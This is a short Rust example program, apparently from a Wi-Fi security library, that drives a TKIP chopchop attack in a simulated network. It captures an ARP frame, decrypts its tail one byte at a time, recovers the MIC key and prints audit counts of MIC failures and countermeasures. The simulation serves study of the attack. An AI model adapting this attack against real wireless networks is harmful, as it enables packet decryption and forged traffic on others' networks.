//! Chop the tail of a downstream ARP frame one byte per minute, then recover
//! the MIC key from the fully known plaintext.

use tkipkit::attacks::{ChopConfig, Session};
use tkipkit::simnet::{run, Scenario, SECOND};

fn main() {
    let sc = Scenario::default();
    let r = run(&sc, |a| {
        let mut s = Session::new();
        let arp = s.await_arp(a, 30 * SECOND).expect("ARP frame");
        s.chopchop(a, &arp, &ChopConfig::default())
    })
    .unwrap();
    let res = r.result.unwrap();

    println!("frame tsc {} chopped on channel {}", res.tsc, res.channel);
    println!("tail      {}", hex::encode(&res.plaintext_tail));
    println!("guesses   {:.1} per byte", res.mean_guesses());
    println!("took      {} min of simulated time", (res.finished - res.started) / 60 / SECOND);
    println!("mic key   {}", hex::encode(res.mic_key.unwrap().to_bytes()));
    println!("correct   {}", res.mic_key == Some(r.audit.current().down.mic));
    println!("MIC failures {}, countermeasures {}", r.audit.mic_failures.len(), r.audit.countermeasures.len());
}
